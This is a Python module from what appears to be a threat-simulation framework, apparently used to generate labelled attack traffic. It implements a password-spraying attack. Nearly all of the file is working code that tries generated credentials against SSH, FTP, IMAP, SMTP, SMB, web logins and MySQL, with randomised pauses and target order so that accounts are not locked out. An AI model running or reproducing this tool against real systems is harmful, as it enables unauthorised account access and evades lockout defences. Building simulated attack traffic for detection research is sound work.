# SPDX-License-Identifier: GPL-3.0-or-later
"""Spraying: a few passwords over many accounts, hosts and protocols, slowly, so that no account is locked.

Varied per session: protocols, one or two passwords a wave, the pause between tries and its spread, the order of targets."""
import base64
import contextlib
import ftplib
import imaplib
import smtplib
import ssl
import urllib.parse

from .. import clients
from ..behaviour import threat
from . import words


def _ssh(me, service, user, password, style):
    import paramiko
    with me.connect(service) as plain:
        transport = paramiko.Transport(plain)
        try:
            transport.banner_timeout = transport.auth_timeout = 8
            transport.start_client(timeout=8)
            with contextlib.suppress(paramiko.SSHException):
                transport.auth_password(user, password)
        finally:
            transport.close()


def _ftp(me, service, user, password, style):
    with me.talk(service), ftplib.FTP(timeout=8) as talk:
        me.use("ftplib")
        talk.connect(me.address(service, False), service.port)
        talk.login(user, password)


def _imap(me, service, user, password, style):
    with me.talk(service):
        me.use("imaplib")
        address = me.address(service, False)
        if service.facts.get("tls"):
            talk = imaplib.IMAP4_SSL(address, service.port, ssl_context=style.context, timeout=8)
        else:
            talk = imaplib.IMAP4(address, service.port, timeout=8)
        try:
            talk.login(user, password)
        finally:
            talk.shutdown()


def _smtp(me, service, user, password, style):
    address = me.address(service, False)
    with me.talk(service), smtplib.SMTP(address, service.port, local_hostname="localhost", timeout=8) as talk:
        me.use("smtplib")
        if service.facts.get("starttls"):
            talk.starttls(context=style.context)
        talk.login(user, password)


def _smb(me, service, user, password, style):
    with me.talk(service):
        me.run(["smbclient", "-s", "/dev/null", "-p", service.port, "-U", f"{user}%{password}", "-c", "quit",
                f"//{me.address(service, False)}/IPC$"], timeout=8)


def _web(me, service, user, password, style):
    with clients.http(me, service, style=style) as web:
        if me.rng.random() < 0.3:
            pair = base64.b64encode(f"{user}:{password}".encode()).decode()
            web.ask("GET", me.rng.choice(("/admin", "/private", "/api")), headers={"Authorization": f"Basic {pair}"})
        else:
            form = urllib.parse.urlencode({"user": user, "password": password}).encode()
            web.ask("POST", "/login", form, {"Content-Type": "application/x-www-form-urlencoded"})


def _mysql(me, service, user, password, style):
    import pymysql
    with me.talk(service), contextlib.suppress(pymysql.MySQLError):
        me.use("pymysql")
        pymysql.connect(host=me.address(service, False), port=service.port, user=user, password=password,
                        connect_timeout=6).close()


WAYS = {"ssh": _ssh, "ftp": _ftp, "imap": _imap, "smtp": _smtp, "smb": _smb, "web": _web, "mysql": _mysql}


@threat("cred_spray", family="guessing", needs=("ssh",), tools=("python:paramiko", "smbclient", "python:pymysql"),
        seconds=(130, 240), origin="either")
def cred_spray(me):
    import paramiko
    failures = (OSError, EOFError, ValueError, ftplib.Error, imaplib.IMAP4.error, smtplib.SMTPException, ssl.SSLError,
                paramiko.SSHException)
    rng = me.rng
    style = clients.style(me)
    targets = [service for kind in WAYS for service in me.services(kind)]
    kinds = sorted({service.kind for service in targets})
    wanted = set(rng.sample(kinds, rng.randint(min(2, len(kinds)), len(kinds))))
    targets = [service for service in targets if service.kind in wanted]
    pause, spread = rng.uniform(0.8, 3.5), rng.choice((0.1, 0.3, 0.8))
    people = words.users(rng, rng.randrange(6, 20))
    while not me.over():
        password = words.passwords(rng, 1)[0]
        rng.shuffle(people)
        for user in people:
            if rng.random() < 0.5:
                rng.shuffle(targets)
            for service in targets[:rng.randint(1, 4)]:
                with contextlib.suppress(*failures):
                    WAYS[service.kind](me, service, user, password, style)
                me.sleep(pause * rng.uniform(1 - spread, 1 + spread))


EVIDENCE = {
    "cred_spray": ("with a login that was answered", lambda flow: flow.protocol == 6 and min(flow.bytes) > 200, 15),
}
